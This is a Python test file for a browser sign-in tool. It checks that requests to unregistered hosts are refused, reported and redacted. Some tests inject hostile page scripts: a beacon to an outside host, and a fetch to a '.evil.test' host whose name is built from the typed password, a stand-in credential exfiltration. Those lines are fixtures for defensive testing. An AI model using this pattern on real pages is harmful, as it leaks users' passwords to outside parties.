"""A sign-in that lacks what was refused says so: in its reason, and in the timeline."""

from pathlib import Path

import pytest

from seezar.browser.pool import BrowserPool
from seezar.redaction import Redactor
from seezar.signin.egress import shown_host, tell_egress
from tests.chromium import make_pool
from tests.egress.names import policy
from tests.signin.driving import HOME, LOGIN, PASSWORD, check_password, protected
from tests.signin.ground import ground
from tests.site import Response, page, serve

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.browser]

FORM = LOGIN.partition("<body>")[2].partition("</body>")[0].replace("\n", " ")
# The form comes from a script that another host serves.
SCRIPT = Response(f"document.body.innerHTML = {FORM!r}", content_type="text/javascript")


async def test_a_script_that_was_refused_is_named_with_what_allows_it(database_url: str, tmp_path: Path) -> None:
    routes = {"/login": check_password, "/home": protected}
    async with (
        serve({"/js": SCRIPT, "/i.png": ""}, host="localhost") as cdn,
        serve(routes) as site,
        make_pool(private_hosts="localhost") as pool,
        ground(pool, database_url, tmp_path) as made,
    ):
        there = f"localhost:{cdn.port}"
        site.routes["/"] = page(f'<script src="{cdn.url}/js"></script><img src="{cdn.url}/i.png">')
        outcome = await made.sign_in(site)
        assert outcome.status in ("needs_person", "unknown")
        assert f"Not reached, as not registered for the account: {there}." in outcome.reason
        assert outcome.reason.endswith(f"seezar account allow ops {there}")
        assert cdn.requests == []
        (detail,) = [detail for line, detail in zip(made.lines, made.details, strict=True) if line.startswith("egress")]
        (refused,) = detail["refused"]  # pyright: ignore[reportGeneralTypeIssues]
        assert (refused["host"], refused["why"]) == (there, ["not_allowed"])
        assert "script" in refused["kinds"]
        assert "/js" not in str(made.lines) + str(made.details)
        # And that is what helps.
        await made.app.accounts.allow("ops", [there])
        await made.app.runs.finish("run", outcome.status, reason="", result={})
        outcome = await made.sign_in(site, "second")
        assert outcome.status == "signed_in"
        assert {request.path for request in cdn.requests} == {"/js", "/i.png"}


async def test_pictures_that_were_refused_are_nobody_s_reason(
    pool: BrowserPool, database_url: str, tmp_path: Path
) -> None:
    async with (
        serve({}, host="localhost") as counter,
        serve({}) as site,
        ground(pool, database_url, tmp_path) as made,
    ):
        site.routes["/"] = page(f'<p>Nothing here.</p><img src="{counter.url}/i.png">')
        outcome = await made.sign_in(site)
        assert outcome.status == "needs_person"
        assert "localhost" not in outcome.reason
        assert any("localhost" in str(detail) for detail in made.details)


async def test_a_sign_in_that_works_tells_of_refusals_in_the_timeline_only(
    pool: BrowserPool, database_url: str, tmp_path: Path
) -> None:
    async with (
        serve({}, host="localhost") as counter,
        serve({"/login": check_password}) as site,
        ground(pool, database_url, tmp_path) as made,
    ):
        beacon = f'<script>navigator.sendBeacon("{counter.url}/x", "y")</script>'
        site.routes |= {"/": LOGIN.replace("</body>", f"{beacon}</body>"), "/home": HOME}
        outcome = await made.sign_in(site)
        assert "localhost" not in outcome.reason
        assert counter.requests == []
        assert made.of("egress") == ["egress: Refused 1 connections to 1 hosts"]


async def test_a_password_in_the_name_of_a_host_does_not_get_into_the_timeline(
    pool: BrowserPool, database_url: str, tmp_path: Path
) -> None:
    """The page reads what was typed, and asks for a host of that name."""
    name = "".join(sign for sign in PASSWORD if sign.isascii() and (sign.isalnum() or sign == "-"))
    tries = f"<script>fetch('http://{name}.evil.test/').catch(() => 0)</script>"
    async with (
        serve({"/login": check_password, "/home": HOME}) as site,
        ground(pool, database_url, tmp_path) as made,
    ):
        site.routes["/"] = LOGIN.replace("</body>", f"{tries}</body>")
        await made.sign_in(site)
        assert made.of("egress") == ["egress: Refused 1 connections to 1 hosts"]
        told = str(made.details).lower()
        assert "egress" not in told
        assert "geheim" not in told
        assert "a host whose name holds a secret" in told or "*.evil.test" in told


async def test_names_that_look_like_data_are_not_told() -> None:
    redact = Redactor({"password": PASSWORD, "username": "indigo"})
    assert shown_host("cdn.example.net", redact) == "cdn.example.net"
    assert shown_host("cdn.example.net:8443", redact) == "cdn.example.net:8443"
    assert shown_host("indigo.evil.net", redact) == "a host whose name holds a secret"
    assert shown_host("a483920b.evil.net:81", redact) == "*.evil.net:81"
    assert shown_host(f"{'ab' * 20}.evil.net", redact) == "*.evil.net"
    lines: list[str] = []

    async def report(step: str, message: str, **detail: object) -> None:
        lines.append(f"{step} {message} {detail}")

    of = policy()
    await tell_egress(of, report, redact)
    await tell_egress(None, report, redact)
    assert lines == []
